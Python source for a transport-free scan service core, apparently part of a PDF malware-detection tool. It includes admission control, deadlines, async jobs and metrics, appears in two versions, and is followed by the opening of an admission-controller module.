pool, an :class:`~repro.serve.admission.AdmissionController` in front
of it, and a :class:`~repro.serve.jobs.JobRegistry` for async
submissions.  The HTTP layer (``repro.serve.http``) only decodes
requests into these methods and encodes :class:`ServeResult` back —
which keeps every service semantic (admission, deadlines, shedding,
caching, drain) testable in-process without sockets.

Request flow for one ``POST /scan``::

    admit  ──429/503──▶ shed (Retry-After)
      │
    acquire worker slot (bounded queue; deadline keeps ticking)
      │
    scanner.submit_one(..., deadline_at=ticket.deadline_at)
      │            └── remaining time caps the in-scan resource budget
    verdict / structured limit report / errored report
      │
    release slot, record metrics (serve.request span, counters)

Verdicts are byte-identical to one-shot ``pipeline.scan`` — the service
adds scheduling around the pipeline, never detection logic (asserted by
``tests/serve`` and the service property tests).
"""

from __future__ import annotations

import concurrent.futures as cf
import threading
import time
from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Sequence, Tuple, Union

from repro import limits as limits_mod
from repro import obs as obs_mod
from repro.batch.cache import VerdictCache
from repro.batch.scanner import BatchScanner
from repro.core.pipeline import PipelineSettings
from repro.limits import ScanLimits
from repro.obs.metrics import Metrics
from repro.obs.profile import SlowScanBuffer
from repro.serve.admission import (
    SHED_ASYNC_BACKLOG,
    SHED_DRAINING,
    AdmissionConfig,
    AdmissionController,
    RequestShed,
)
from repro.serve.jobs import JOB_DONE, JOB_SHED, JobRegistry

#: Extra seconds past the request deadline we wait for a worker that
#: should have aborted itself (in-scan budget) before abandoning it.
HANG_GRACE_SECONDS = 2.0


@dataclass
class ServeResult:
    """One request's outcome, transport-agnostic.

    ``status`` uses HTTP codes as the shared vocabulary (200 verdict,
    202 job accepted, 400 bad request, 404 unknown job, 429/503 shed,
    500 internal); ``retry_after`` is set on shed responses.
    """

    status: int
    payload: Dict[str, Any]
    retry_after: Optional[float] = None

    @property
    def ok(self) -> bool:
        return 200 <= self.status < 300


class ScanService:
    """Long-running scan service over a persistent worker pool."""

    def __init__(
        self,
        settings: Optional[PipelineSettings] = None,
        jobs: int = 4,
        backend: str = "thread",
        timeout: Optional[float] = None,
        admission: Optional[AdmissionConfig] = None,
        cache: Union[VerdictCache, None, bool] = None,
        max_jobs: int = 1024,
        max_pending_async: Optional[int] = None,
        hang_grace: float = HANG_GRACE_SECONDS,
        slow_threshold: Optional[float] = None,
        slow_capacity: int = 32,
        obs: Optional[obs_mod.Observability] = None,
        scanner: Optional[BatchScanner] = None,
    ) -> None:
        self.obs = obs if obs is not None else obs_mod.get_default()
        if scanner is None:
            scanner = BatchScanner(
                jobs=jobs,
                backend=backend,
                timeout=timeout,
                settings=settings,
                cache=cache,
                obs=self.obs,
            )
        self.scanner = scanner
        if admission is None:
            admission = AdmissionConfig(max_in_flight=self.scanner.jobs)
        self.admission = AdmissionController(admission)
        self.jobs = JobRegistry(max_jobs=max_jobs)
        #: Async submissions allowed to be queued/running at once; the
        #: excess is shed with 429 *at submission time* so an async
        #: firehose cannot park unbounded request bodies on the job
        #: pool's work queue.  Defaults to the same backlog the sync
        #: path tolerates (queue depth + in-flight slots).
        if max_pending_async is None:
            max_pending_async = (
                self.admission.config.max_queue_depth
                + self.admission.config.max_in_flight
            )
        self.max_pending_async = max_pending_async
        self.hang_grace = hang_grace
        #: Slow-scan exemplars (full span trees + phase profiles) for
        #: ``GET /debug/slow``: fixed ``slow_threshold`` seconds, or the
        #: rolling p99 of recent scans when None.
        self.slow_scans = SlowScanBuffer(
            capacity=slow_capacity, threshold_seconds=slow_threshold
        )
        self.started_at = time.time()
        self._async_pool: Optional[cf.ThreadPoolExecutor] = None
        self._lock = threading.Lock()
        #: Requests abandoned past deadline + grace whose workers are
        #: still occupying pool slots (hung scans the thread backend
        #: cannot kill) — true pool occupancy is in_flight + this.
        self._abandoned = 0
        self._stopped = False

    # -- lifecycle ---------------------------------------------------------

    def start(self) -> "ScanService":
        """Bring up the worker pool and the async-job runner.

        Raises ``RuntimeError`` on a drained service: drain is
        terminal (admission stays in draining mode), so resurrecting
        the pools would only accept work it then sheds.
        """
        with self._lock:
            if self._stopped:
                raise RuntimeError(
                    "service has been drained; build a new ScanService"
                )
        self.scanner.start()
        with self._lock:
            if self._async_pool is None:
                self._async_pool = cf.ThreadPoolExecutor(
                    max_workers=max(2, self.scanner.jobs),
                    thread_name_prefix="repro-serve-job",
                )
        return self

    def drain(self, timeout: Optional[float] = 30.0) -> bool:
        """Graceful shutdown: shed new requests, finish admitted ones.

        Returns True when everything in flight finished inside
        ``timeout`` (False = somebody was abandoned).  Idempotent and
        terminal: requests arriving afterwards are shed with 503 and
        the torn-down pools are never rebuilt.
        """
        with self._lock:
            self._stopped = True
        self.admission.start_drain()
        idle = self.admission.wait_idle(timeout)
        with self._lock:
            pool, self._async_pool = self._async_pool, None
        if pool is not None:
            pool.shutdown(wait=True)
        self.scanner.shutdown(wait=False)
        return idle

    # -- the synchronous scan path -----------------------------------------

    def handle_scan(
        self,
        data: bytes,
        name: str = "document.pdf",
        limits_spec: Optional[str] = None,
        use_cache: bool = True,
        deadline_left: Optional[float] = None,
    ) -> ServeResult:
        """Full admission-controlled scan of one document.

        ``use_cache=False`` (the ``nocache=1`` query parameter) forces
        a fresh scan — cache hits answer with the summarised verdict
        only (``"report": null``), so clients that need the full
        OpenReport payload opt out of the cache.

        ``deadline_left`` is the transport seam for router-level
        deadline propagation: seconds remaining in an *upstream* budget
        (the cluster router's per-request deadline, minus time already
        spent routing).  It tightens the admission ticket's deadline —
        never loosens it (:func:`repro.limits.merge_deadlines`) — so a
        shard never keeps scanning for a request whose caller has
        already given up.  Unlike a ``limits=deadline=...`` override it
        does *not* mark the request as custom-limits, so the verdict
        cache stays in play (the scanner separately refuses to cache a
        scan that aborted under a deadline-tightened budget).
        """
        limits: Optional[ScanLimits] = None
        if limits_spec:
            try:
                # The exact parser behind ``repro scan --limits``.
                limits = ScanLimits.parse(limits_spec)
            except ValueError as error:
                return self._finish(ServeResult(
                    400, {"error": f"bad limits: {error}", "name": name},
                ))
        if not data:
            return self._finish(ServeResult(
                400, {"error": "empty request body", "name": name},
            ))

        start = time.perf_counter()
        with self.obs.tracer.span("serve.request", document=name) as span:
            try:
                ticket = self.admission.admit()
            except RequestShed as shed:
                return self._finish(self._shed_result(shed, name), span=span)
            if deadline_left is not None:
                ticket.deadline_at = limits_mod.merge_deadlines(
                    ticket.deadline_at, time.monotonic() + deadline_left
                )
            try:
                try:
                    with self.obs.tracer.span("serve.queue_wait"):
                        self.admission.acquire(ticket)
                except RequestShed as shed:
                    return self._finish(self._shed_result(shed, name), span=span)
                if self.obs.enabled:
                    self.obs.metrics.observe(
                        "serve_queue_wait_seconds", ticket.queue_wait,
                        buckets=(0.001, 0.01, 0.1, 0.5, 1, 5, 30),
                    )
                result = self._run_admitted(
                    data, name, limits, ticket, span, use_cache
                )
            finally:
                self.admission.release(ticket)
            if self.obs.enabled:
                self.obs.metrics.observe(
                    "serve_latency_seconds", time.perf_counter() - start,
                    buckets=(0.01, 0.05, 0.1, 0.5, 1, 5, 30),
                )
            return self._finish(result, span=span)

    def _run_admitted(
        self, data, name, limits, ticket, span, use_cache=True
    ) -> ServeResult:
        """The in-slot part: submit to the pool and wait it out."""
        try:
            handle = self.scanner.submit_one(
                name, data, limits=limits, deadline_at=ticket.deadline_at,
                use_cache=use_cache,
            )
        except RuntimeError as error:  # pool torn down under us (drain race)
            return ServeResult(
                503, {"error": f"service stopping: {error}", "name": name},
                retry_after=self.admission.config.retry_after_seconds,
            )
        wait: Optional[float] = None
        if ticket.deadline_at is not None:
            # The in-scan budget aborts the worker at the deadline; the
            # grace covers budget-check granularity.  Past it, the
            # worker is presumed hung and the request abandoned.
            wait = ticket.remaining(time.monotonic()) + self.hang_grace
        try:
            outcome = handle.result(wait)
        except cf.TimeoutError:
            self._note_abandoned(handle)
            span.set_tag("abandoned", True)
            return ServeResult(
                503,
                {"error": "scan exceeded its deadline and was abandoned",
                 "name": name, "sha256": handle.digest},
                retry_after=self.admission.config.retry_after_seconds,
            )
        except Exception as error:  # worker bug — never takes the daemon down
            return ServeResult(
                500,
                {"error": f"{type(error).__name__}: {error}", "name": name},
            )
        span.set_tag("cached", outcome.cached)
        span.set_tag("malicious", outcome.summary.malicious)
        if not outcome.cached:
            detail: Dict[str, Any] = {
                "queue_wait": ticket.queue_wait,
                "malicious": outcome.summary.malicious,
            }
            if outcome.spans:
                detail["spans"] = outcome.spans
            if outcome.report and outcome.report.get("profile"):
                detail["profile"] = outcome.report["profile"]
            retained = self.slow_scans.observe(
                name, outcome.seconds, digest=handle.digest, detail=detail
            )
            if retained and self.obs.enabled:
                self.obs.metrics.inc("serve_slow_scans")
        payload: Dict[str, Any] = {
            "name": name,
            "sha256": handle.digest,
            "cached": outcome.cached,
            "seconds": outcome.seconds,
            "queue_wait": ticket.queue_wait,
            "verdict": outcome.summary.to_dict(),
            "report": outcome.report,
        }
        return ServeResult(200, payload)

    # -- batch + async -----------------------------------------------------

    def handle_batch(
        self,
        items: Sequence[Tuple[str, bytes]],
        limits_spec: Optional[str] = None,
    ) -> ServeResult:
        """Scan several documents; each passes admission individually.

        The response is multi-status: overall 200 with a per-item
        ``status`` (some may be 429/503 under overload).
        """
        pool = self._require_pool()
        if pool is None:
            return ServeResult(
                503, {"error": "service stopping"},
                retry_after=self.admission.config.retry_after_seconds,
            )
        futures = [
            pool.submit(self.handle_scan, data, name, limits_spec)
            for name, data in items
        ]
        entries: List[Dict[str, Any]] = []
        counts = {"ok": 0, "shed": 0, "failed": 0}
        for (name, _), future in zip(items, futures):
            result = future.result()
            entry = {"name": name, "status": result.status, **result.payload}
            entries.append(entry)
            if result.ok:
                counts["ok"] += 1
            elif result.status in (429, 503):
                counts["shed"] += 1
            else:
                counts["failed"] += 1
        return ServeResult(
            200, {"total": len(entries), "counts": counts, "items": entries}
        )

    def handle_async_submit(
        self,
        data: bytes,
        name: str = "document.pdf",
        limits_spec: Optional[str] = None,
        use_cache: bool = True,
    ) -> ServeResult:
        """Accept a scan for background execution; poll ``/jobs/<id>``.

        Acceptance is *not* unconditional: a submission arriving while
        ``max_pending_async`` jobs are still queued/running is shed
        with 429 right here — before its body is parked on the job
        pool's work queue — so an async firehose is bounded exactly
        like the synchronous path (admission still runs again when the
        job executes).
        """
        pool = self._require_pool()
        if pool is None:
            return ServeResult(
                503, {"error": "service stopping"},
                retry_after=self.admission.config.retry_after_seconds,
            )
        retry_after = self.admission.config.retry_after_seconds
        if self.admission.draining:
            self.admission.record_shed(SHED_DRAINING)
            return self._finish(
                self._shed_result(RequestShed(SHED_DRAINING, retry_after), name)
            )
        job = self.jobs.create(name, max_pending=self.max_pending_async)
        if job is None:
            self.admission.record_shed(SHED_ASYNC_BACKLOG)
            return self._finish(
                self._shed_result(
                    RequestShed(SHED_ASYNC_BACKLOG, retry_after), name
                )
            )

        def run() -> None:
            self.jobs.mark_running(job.id)
            result = self.handle_scan(data, name, limits_spec, use_cache)
            state = JOB_SHED if result.status in (429, 503) else JOB_DONE
            self.jobs.finish(job.id, state, result.status, result.payload)

        try:
            pool.submit(run)
        except RuntimeError:  # drained between _require_pool and submit
            # Close out the record so it never lingers as pending.
            self.jobs.finish(
                job.id, JOB_SHED, 503, {"error": "service stopping"}
            )
            return ServeResult(
                503, {"error": "service stopping"},
                retry_after=retry_after,
            )
        if self.obs.enabled:
            self.obs.metrics.inc("serve_jobs_submitted")
        return ServeResult(
            202, {"job": job.id, "state": job.state, "poll": f"/jobs/{job.id}"}
        )

    def handle_job_status(self, job_id: str) -> ServeResult:
        job = self.jobs.get(job_id)
        if job is None:
            return ServeResult(404, {"error": f"unknown job {job_id!r}"})
        return ServeResult(200, job.to_dict())

    # -- introspection -----------------------------------------------------

    def health(self) -> ServeResult:
        """``GET /healthz``: 200 while serving, 503 once draining (so a
        load balancer stops routing before the listener goes away)."""
        snap = self.admission.snapshot()
        payload = {
            "status": "draining" if snap["draining"] else "ok",
            "uptime_seconds": time.time() - self.started_at,
            "workers": self.scanner.jobs,
            "backend": self.scanner.backend,
            "queue_depth": snap["queue_depth"],
            "in_flight": snap["in_flight"],
            #: Hung workers still burning pool slots after their
            #: requests were abandoned; true occupancy is
            #: in_flight + abandoned_workers.
            "abandoned_workers": self.abandoned_workers,
            "pending_jobs": self.jobs.pending_count(),
        }
        return ServeResult(503 if snap["draining"] else 200, payload)

    def metrics(self) -> ServeResult:
        """``GET /metrics``: admission/job/cache state + obs counters."""
        payload: Dict[str, Any] = {
            "admission": self.admission.snapshot(),
            "jobs": self.jobs.snapshot(),
            "abandoned_workers": self.abandoned_workers,
        }
        if self.scanner.cache is not None:
            payload["cache"] = self.scanner.cache.stats
        if self.obs.enabled:
            payload["metrics"] = self.obs.metrics.snapshot()
            latency = self.obs.metrics.histogram("serve_latency_seconds")
            if latency is not None and latency.count:
                payload["latency"] = {
                    "p50_seconds": latency.quantile(0.5),
                    "p95_seconds": latency.quantile(0.95),
                }
        return ServeResult(200, payload)

    def metrics_prometheus(self) -> str:
        """``GET /metrics?format=prometheus``: text exposition 0.0.4.

        Renders every obs series plus the service's live admission /
        job / slow-scan state (as ``serve_*`` gauges) so a Prometheus
        scraper sees the whole picture from one endpoint — including on
        a service running with the default (disabled) sink.
        """
        snap = self.admission.snapshot()
        slow = self.slow_scans.snapshot()
        live = Metrics()
        live.set_gauge("serve_admission_queue_depth", snap["queue_depth"])
        live.set_gauge("serve_admission_in_flight", snap["in_flight"])
        live.set_gauge("serve_admission_draining", int(snap["draining"]))
        live.set_gauge("serve_abandoned_workers_live", self.abandoned_workers)
        live.set_gauge("serve_pending_jobs", self.jobs.pending_count())
        live.set_gauge("serve_uptime_seconds", time.time() - self.started_at)
        live.set_gauge("serve_slow_scans_retained", slow["retained"])
        if self.scanner.cache is not None:
            stats = self.scanner.cache.stats
            for key, value in stats.items():
                if isinstance(value, (int, float)) and not isinstance(value, bool):
                    live.set_gauge(f"serve_cache_{key}", value)
        text = live.render_prometheus()
        if self.obs.enabled:
            text += self.obs.metrics.render_prometheus()
        return text

    def debug_slow(self) -> ServeResult:
        """``GET /debug/slow``: retained slow-scan exemplars."""
        return ServeResult(200, self.slow_scans.snapshot())

    # -- internals ---------------------------------------------------------

    def _require_pool(self) -> Optional[cf.ThreadPoolExecutor]:
        """The async-job pool, or None (503) once drained.

        Lazy-starts an un-started service but never resurrects a
        drained one — ``drain`` is terminal and only an explicit
        (pre-drain) :meth:`start` creates pools.
        """
        with self._lock:
            if self._stopped:
                return None
            pool = self._async_pool
        if pool is None:
            try:
                self.start()
            except RuntimeError:  # drained while we decided to start
                return None
            with self._lock:
                pool = self._async_pool
        return pool

    @property
    def abandoned_workers(self) -> int:
        """Abandoned requests whose workers still hold pool slots."""
        with self._lock:
            return self._abandoned

    def _note_abandoned(self, handle: Any) -> None:
        """Track a hung worker past its grace: the request is answered
        503, but the worker thread keeps its pool slot until the scan
        self-aborts — while it does, ``max_in_flight`` under-reports
        true pool occupancy, so the discrepancy is surfaced as a gauge
        and in ``/healthz`` for operators."""
        with self._lock:
            self._abandoned += 1
        if self.obs.enabled:
            self.obs.metrics.inc("serve_abandoned")
            self.obs.metrics.set_gauge(
                "serve_abandoned_workers", self.abandoned_workers
            )

        def _slot_returned() -> None:
            with self._lock:
                self._abandoned -= 1
            if self.obs.enabled:
                self.obs.metrics.set_gauge(
                    "serve_abandoned_workers", self.abandoned_workers
                )

        handle.add_done_callback(_slot_returned)

    def _shed_result(self, shed: RequestShed, name: str) -> ServeResult:
        if self.obs.enabled:
            self.obs.metrics.inc("serve_shed", reason=shed.reason)
        return ServeResult(
            shed.status,
            {"error": str(shed), "reason": shed.reason, "name": name},
            retry_after=shed.retry_after,
        )

    def _finish(self, result: ServeResult, span: Any = None) -> ServeResult:
        if span is not None:
            span.set_tag("status", result.status)
            if "reason" in result.payload:
                span.set_tag("shed_reason", result.payload["reason"])
        if self.obs.enabled:
            self.obs.metrics.inc("serve_requests", status=result.status)
            self.obs.metrics.set_gauge(
                "serve_queue_depth", self.admission.queue_depth
            )
            self.obs.metrics.set_gauge(
                "serve_in_flight", self.admission.in_flight
            )
        return result
