"""The scan service core (``repro.serve``): transport-free request paths.

:class:`ScanService` is everything the daemon does *except* HTTP: it
owns a persistent :class:`~repro.batch.scanner.BatchScanner` worker
pool, an :class:`~repro.serve.admission.AdmissionController` in front
of it, and a :class:`~repro.serve.jobs.JobRegistry` for async
submissions.  The HTTP layer (``repro.serve.http``) only decodes
requests into these methods and encodes :class:`ServeResult` back —
which keeps every service semantic (admission, deadlines, shedding,
caching, drain) testable in-process without sockets.

Request flow for one ``POST /scan``::

    admit  ──429/503──▶ shed (Retry-After)
      │
    acquire worker slot (bounded queue; deadline keeps ticking)
      │
    scanner.submit_one(..., deadline_at=ticket.deadline_at)
      │            └── remaining time caps the in-scan resource budget
    verdict / structured limit report / errored report
      │
    release slot, record metrics (serve.request span, counters)

Verdicts are byte-identical to one-shot ``pipeline.scan`` — the service
adds scheduling around the pipeline, never detection logic (asserted by
``tests/serve`` and the service property tests).
"""

from __future__ import annotations

import concurrent.futures as cf
import threading
import time
from dataclasses import dataclass
from typing import Any, Dict, List, Optional, Sequence, Tuple, Union

from repro import obs as obs_mod
from repro.batch.cache import VerdictCache
from repro.batch.scanner import BatchScanner
from repro.core.pipeline import PipelineSettings
from repro.limits import ScanLimits
from repro.serve.admission import (
    AdmissionConfig,
    AdmissionController,
    RequestShed,
)
from repro.serve.jobs import JOB_DONE, JOB_SHED, JobRegistry

#: Extra seconds past the request deadline we wait for a worker that
#: should have aborted itself (in-scan budget) before abandoning it.
HANG_GRACE_SECONDS = 2.0


@dataclass
class ServeResult:
    """One request's outcome, transport-agnostic.

    ``status`` uses HTTP codes as the shared vocabulary (200 verdict,
    202 job accepted, 400 bad request, 404 unknown job, 429/503 shed,
    500 internal); ``retry_after`` is set on shed responses.
    """

    status: int
    payload: Dict[str, Any]
    retry_after: Optional[float] = None

    @property
    def ok(self) -> bool:
        return 200 <= self.status < 300


class ScanService:
    """Long-running scan service over a persistent worker pool."""

    def __init__(
        self,
        settings: Optional[PipelineSettings] = None,
        jobs: int = 4,
        backend: str = "thread",
        timeout: Optional[float] = None,
        admission: Optional[AdmissionConfig] = None,
        cache: Union[VerdictCache, None, bool] = None,
        max_jobs: int = 1024,
        hang_grace: float = HANG_GRACE_SECONDS,
        obs: Optional[obs_mod.Observability] = None,
        scanner: Optional[BatchScanner] = None,
    ) -> None:
        self.obs = obs if obs is not None else obs_mod.get_default()
        if scanner is None:
            scanner = BatchScanner(
                jobs=jobs,
                backend=backend,
                timeout=timeout,
                settings=settings,
                cache=cache,
                obs=self.obs,
            )
        self.scanner = scanner
        if admission is None:
            admission = AdmissionConfig(max_in_flight=self.scanner.jobs)
        self.admission = AdmissionController(admission)
        self.jobs = JobRegistry(max_jobs=max_jobs)
        self.hang_grace = hang_grace
        self.started_at = time.time()
        self._async_pool: Optional[cf.ThreadPoolExecutor] = None
        self._lock = threading.Lock()

    # -- lifecycle ---------------------------------------------------------

    def start(self) -> "ScanService":
        """Bring up the worker pool and the async-job runner."""
        self.scanner.start()
        with self._lock:
            if self._async_pool is None:
                self._async_pool = cf.ThreadPoolExecutor(
                    max_workers=max(2, self.scanner.jobs),
                    thread_name_prefix="repro-serve-job",
                )
        return self

    def drain(self, timeout: Optional[float] = 30.0) -> bool:
        """Graceful shutdown: shed new requests, finish admitted ones.

        Returns True when everything in flight finished inside
        ``timeout`` (False = somebody was abandoned).  Idempotent.
        """
        self.admission.start_drain()
        idle = self.admission.wait_idle(timeout)
        with self._lock:
            pool, self._async_pool = self._async_pool, None
        if pool is not None:
            pool.shutdown(wait=True)
        self.scanner.shutdown(wait=False)
        return idle

    # -- the synchronous scan path -----------------------------------------

    def handle_scan(
        self,
        data: bytes,
        name: str = "document.pdf",
        limits_spec: Optional[str] = None,
    ) -> ServeResult:
        """Full admission-controlled scan of one document."""
        limits: Optional[ScanLimits] = None
        if limits_spec:
            try:
                # The exact parser behind ``repro scan --limits``.
                limits = ScanLimits.parse(limits_spec)
            except ValueError as error:
                return self._finish(ServeResult(
                    400, {"error": f"bad limits: {error}", "name": name},
                ))
        if not data:
            return self._finish(ServeResult(
                400, {"error": "empty request body", "name": name},
            ))

        start = time.perf_counter()
        with self.obs.tracer.span("serve.request", document=name) as span:
            try:
                ticket = self.admission.admit()
            except RequestShed as shed:
                return self._finish(self._shed_result(shed, name), span=span)
            try:
                try:
                    with self.obs.tracer.span("serve.queue_wait"):
                        self.admission.acquire(ticket)
                except RequestShed as shed:
                    return self._finish(self._shed_result(shed, name), span=span)
                if self.obs.enabled:
                    self.obs.metrics.observe(
                        "serve_queue_wait_seconds", ticket.queue_wait,
                        buckets=(0.001, 0.01, 0.1, 0.5, 1, 5, 30),
                    )
                result = self._run_admitted(data, name, limits, ticket, span)
            finally:
                self.admission.release(ticket)
            if self.obs.enabled:
                self.obs.metrics.observe(
                    "serve_latency_seconds", time.perf_counter() - start,
                    buckets=(0.01, 0.05, 0.1, 0.5, 1, 5, 30),
                )
            return self._finish(result, span=span)

    def _run_admitted(self, data, name, limits, ticket, span) -> ServeResult:
        """The in-slot part: submit to the pool and wait it out."""
        try:
            handle = self.scanner.submit_one(
                name, data, limits=limits, deadline_at=ticket.deadline_at
            )
        except RuntimeError as error:  # pool torn down under us (drain race)
            return ServeResult(
                503, {"error": f"service stopping: {error}", "name": name},
                retry_after=self.admission.config.retry_after_seconds,
            )
        wait: Optional[float] = None
        if ticket.deadline_at is not None:
            # The in-scan budget aborts the worker at the deadline; the
            # grace covers budget-check granularity.  Past it, the
            # worker is presumed hung and the request abandoned.
            wait = ticket.remaining(time.monotonic()) + self.hang_grace
        try:
            outcome = handle.result(wait)
        except cf.TimeoutError:
            if self.obs.enabled:
                self.obs.metrics.inc("serve_abandoned")
            span.set_tag("abandoned", True)
            return ServeResult(
                503,
                {"error": "scan exceeded its deadline and was abandoned",
                 "name": name, "sha256": handle.digest},
                retry_after=self.admission.config.retry_after_seconds,
            )
        except Exception as error:  # worker bug — never takes the daemon down
            return ServeResult(
                500,
                {"error": f"{type(error).__name__}: {error}", "name": name},
            )
        span.set_tag("cached", outcome.cached)
        span.set_tag("malicious", outcome.summary.malicious)
        payload: Dict[str, Any] = {
            "name": name,
            "sha256": handle.digest,
            "cached": outcome.cached,
            "seconds": outcome.seconds,
            "queue_wait": ticket.queue_wait,
            "verdict": outcome.summary.to_dict(),
            "report": outcome.report,
        }
        return ServeResult(200, payload)

    # -- batch + async -----------------------------------------------------

    def handle_batch(
        self,
        items: Sequence[Tuple[str, bytes]],
        limits_spec: Optional[str] = None,
    ) -> ServeResult:
        """Scan several documents; each passes admission individually.

        The response is multi-status: overall 200 with a per-item
        ``status`` (some may be 429/503 under overload).
        """
        pool = self._require_pool()
        if pool is None:
            return ServeResult(
                503, {"error": "service stopping"},
                retry_after=self.admission.config.retry_after_seconds,
            )
        futures = [
            pool.submit(self.handle_scan, data, name, limits_spec)
            for name, data in items
        ]
        entries: List[Dict[str, Any]] = []
        counts = {"ok": 0, "shed": 0, "failed": 0}
        for (name, _), future in zip(items, futures):
            result = future.result()
            entry = {"name": name, "status": result.status, **result.payload}
            entries.append(entry)
            if result.ok:
                counts["ok"] += 1
            elif result.status in (429, 503):
                counts["shed"] += 1
            else:
                counts["failed"] += 1
        return ServeResult(
            200, {"total": len(entries), "counts": counts, "items": entries}
        )

    def handle_async_submit(
        self,
        data: bytes,
        name: str = "document.pdf",
        limits_spec: Optional[str] = None,
    ) -> ServeResult:
        """Accept a scan for background execution; poll ``/jobs/<id>``."""
        pool = self._require_pool()
        if pool is None:
            return ServeResult(
                503, {"error": "service stopping"},
                retry_after=self.admission.config.retry_after_seconds,
            )
        job = self.jobs.create(name)

        def run() -> None:
            self.jobs.mark_running(job.id)
            result = self.handle_scan(data, name, limits_spec)
            state = JOB_SHED if result.status in (429, 503) else JOB_DONE
            self.jobs.finish(job.id, state, result.status, result.payload)

        try:
            pool.submit(run)
        except RuntimeError:  # drained between _require_pool and submit
            return ServeResult(
                503, {"error": "service stopping"},
                retry_after=self.admission.config.retry_after_seconds,
            )
        if self.obs.enabled:
            self.obs.metrics.inc("serve_jobs_submitted")
        return ServeResult(
            202, {"job": job.id, "state": job.state, "poll": f"/jobs/{job.id}"}
        )

    def handle_job_status(self, job_id: str) -> ServeResult:
        job = self.jobs.get(job_id)
        if job is None:
            return ServeResult(404, {"error": f"unknown job {job_id!r}"})
        return ServeResult(200, job.to_dict())

    # -- introspection -----------------------------------------------------

    def health(self) -> ServeResult:
        """``GET /healthz``: 200 while serving, 503 once draining (so a
        load balancer stops routing before the listener goes away)."""
        snap = self.admission.snapshot()
        payload = {
            "status": "draining" if snap["draining"] else "ok",
            "uptime_seconds": time.time() - self.started_at,
            "workers": self.scanner.jobs,
            "backend": self.scanner.backend,
            "queue_depth": snap["queue_depth"],
            "in_flight": snap["in_flight"],
        }
        return ServeResult(503 if snap["draining"] else 200, payload)

    def metrics(self) -> ServeResult:
        """``GET /metrics``: admission/job/cache state + obs counters."""
        payload: Dict[str, Any] = {
            "admission": self.admission.snapshot(),
            "jobs": self.jobs.snapshot(),
        }
        if self.scanner.cache is not None:
            payload["cache"] = self.scanner.cache.stats
        if self.obs.enabled:
            payload["metrics"] = self.obs.metrics.snapshot()
        return ServeResult(200, payload)

    # -- internals ---------------------------------------------------------

    def _require_pool(self) -> Optional[cf.ThreadPoolExecutor]:
        self.start()
        with self._lock:
            return self._async_pool

    def _shed_result(self, shed: RequestShed, name: str) -> ServeResult:
        if self.obs.enabled:
            self.obs.metrics.inc("serve_shed", reason=shed.reason)
        return ServeResult(
            shed.status,
            {"error": str(shed), "reason": shed.reason, "name": name},
            retry_after=shed.retry_after,
        )

    def _finish(self, result: ServeResult, span: Any = None) -> ServeResult:
        if span is not None:
            span.set_tag("status", result.status)
            if "reason" in result.payload:
                span.set_tag("shed_reason", result.payload["reason"])
        if self.obs.enabled:
            self.obs.metrics.inc("serve_requests", status=result.status)
            self.obs.metrics.set_gauge(
                "serve_queue_depth", self.admission.queue_depth
            )
            self.obs.metrics.set_gauge(
                "serve_in_flight", self.admission.in_flight
            )
        return result
