"""Admission control for the scan service (``repro.serve``).

A scan is expensive (two full detection phases), so a service that
admits every request melts the moment traffic exceeds capacity — the
queue grows without bound, every request times out, and the operator
learns nothing.  The admission controller makes overload a *first-class
response* instead:

* a **bounded queue**: at most ``max_queue_depth`` admitted requests
  may be waiting for a worker slot; request ``max_queue_depth + 1``
  is shed immediately with HTTP 429 and a ``Retry-After`` hint;
* **max in-flight**: at most ``max_in_flight`` requests occupy worker
  slots at once (normally sized to the scanner's worker count);
* a **per-request deadline** covering queue wait *and* scan: a request
  that cannot start before its deadline is shed (503) rather than
  scanned pointlessly, and the remaining time caps the in-scan
  resource budget (see ``repro.limits.cap_deadline``);
* **draining**: once :meth:`AdmissionController.start_drain` is called
  (SIGTERM), new requests are shed with 503 while admitted ones finish.

The controller is pure bookkeeping — no I/O, no scanning — so it is
unit-testable without a server and reusable by both the synchronous
``POST /scan`` path and the async job runner.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, Optional

#: Shed reasons (stable strings: they appear in metrics and responses).
SHED_QUEUE_FULL = "queue-full"
SHED_DRAINING = "draining"
SHED_DEADLINE = "queue-deadline"
#: Async submission refused: too many jobs still queued/running.
SHED_ASYNC_BACKLOG = "async-backlog"

#: Reason -> HTTP status the front-end maps the shed to.
SHED_STATUS = {
    SHED_QUEUE_FULL: 429,
    SHED_DRAINING: 503,
    SHED_DEADLINE: 503,
    SHED_ASYNC_BACKLOG: 429,
}


class RequestShed(Exception):
    """The admission controller refused (or gave up on) a request."""

    def __init__(self, reason: str, retry_after: float) -> None:
        super().__init__(f"request shed: {reason} (retry after {retry_after:g}s)")
        self.reason = reason
        self.retry_after = retry_after

    @property
    def status(self) -> int:
        return SHED_STATUS.get(self.reason, 503)


@dataclass(frozen=True)
class AdmissionConfig:
    """Tuning knobs for one :class:`AdmissionController`.

    Defaults suit the test corpus (sub-second scans); production
    deployments size ``max_in_flight`` to the worker count and
    ``max_queue_depth`` to how much latency they are willing to trade
    for throughput (see ``docs/SERVICE.md``).
    """

    #: Admitted requests allowed to wait for a worker slot.
    max_queue_depth: int = 32
    #: Requests allowed to occupy worker slots concurrently.
    max_in_flight: int = 4
    #: Wall-clock seconds one request gets, queue wait included.
    deadline_seconds: Optional[float] = 30.0
    #: ``Retry-After`` hint on shed responses.
    retry_after_seconds: float = 1.0

    def __post_init__(self) -> None:
        if self.max_queue_depth < 0:
            raise ValueError("max_queue_depth must be >= 0")
        if self.max_in_flight < 1:
            raise ValueError("max_in_flight must be >= 1")
        if self.deadline_seconds is not None and self.deadline_seconds <= 0:
            raise ValueError("deadline_seconds must be positive")


@dataclass
class Ticket:
    """One admitted request's bookkeeping handle."""

    admitted_at: float
    #: Monotonic instant by which the whole request must finish
    #: (``None`` = no deadline).
    deadline_at: Optional[float]
    #: Seconds spent waiting for a worker slot (set by ``acquire``).
    queue_wait: float = 0.0
    _state: str = field(default="queued", repr=False)

    def remaining(self, now: float) -> Optional[float]:
        if self.deadline_at is None:
            return None
        return max(0.0, self.deadline_at - now)


class AdmissionController:
    """Bounded-queue + max-in-flight gate in front of the worker pool.

    Thread-safe; every public method may be called from any request
    thread.  The lifecycle for one request is::

        ticket = controller.admit()          # may raise RequestShed (429/503)
        try:
            controller.acquire(ticket)       # may raise RequestShed (503)
            ... scan, bounded by ticket.deadline_at ...
        finally:
            controller.release(ticket)
    """

    def __init__(
        self,
        config: Optional[AdmissionConfig] = None,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
